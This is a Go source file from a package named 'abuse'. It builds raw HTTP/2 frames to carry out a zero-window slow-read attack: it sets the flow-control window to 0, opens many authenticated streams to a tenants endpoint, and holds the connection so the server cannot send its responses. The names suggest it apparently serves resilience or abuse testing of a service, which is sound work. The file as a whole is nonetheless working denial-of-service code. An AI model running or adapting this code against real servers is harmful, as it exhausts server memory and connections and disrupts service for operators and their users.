package abuse

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"sync"
)

// The few parts of HTTP/2 that a client needs which wants to be a nuisance.
const (
	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameHeaders, frameSettings     = 0x1, 0x4
	flagEndStream, flagEndHeaders   = 0x1, 0x4
	settingInitialWindow            = 0x4
	frameHead, settingBytes, oddIDs = 9, 6, 2
)

// stuckConnection asks for lists and lets the server send none of their bytes.
func stuckConnection(ctx context.Context, at Target, credentials [2]string, lists int) error {
	conn, err := dialTLS(ctx, at)
	if err != nil {
		return err
	}
	var reading sync.WaitGroup
	reading.Go(func() { _, _ = io.Copy(io.Discard, conn) }) // what is no body comes all the same
	defer reading.Wait()
	defer func() { _ = conn.Close() }() // that is all that is left to do
	host, err := hostOf(at)
	if err != nil {
		return err
	}
	var out bytes.Buffer
	out.WriteString(preface)
	setting := make([]byte, settingBytes) // a window of 0
	binary.BigEndian.PutUint16(setting, settingInitialWindow)
	frame(&out, frameSettings, 0, 0, setting)
	for i := range lists {
		frame(&out, frameHeaders, flagEndStream|flagEndHeaders, uint32(oddIDs*i+1), fields([][2]string{
			{":method", "GET"},
			{":scheme", "https"},
			{":authority", host},
			{":path", "/v1/tenants/active?service=" + badService},
			credentials,
		}))
	}
	if _, err := conn.Write(out.Bytes()); err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

func frame(out *bytes.Buffer, kind, flags byte, stream uint32, payload []byte) {
	head := make([]byte, frameHead)
	binary.BigEndian.PutUint32(head, uint32(len(payload))<<8) //nolint:gosec // short
	head[3], head[4] = kind, flags
	binary.BigEndian.PutUint32(head[5:], stream)
	out.Write(head)
	out.Write(payload)
}

// fields writes each as a literal that is not indexed; none is longer than what fits into one byte.
func fields(of [][2]string) []byte {
	var out bytes.Buffer
	for _, field := range of {
		out.WriteByte(0)
		for _, text := range field {
			out.WriteByte(byte(len(text))) //nolint:gosec // short
			out.WriteString(text)
		}
	}
	return out.Bytes()
}
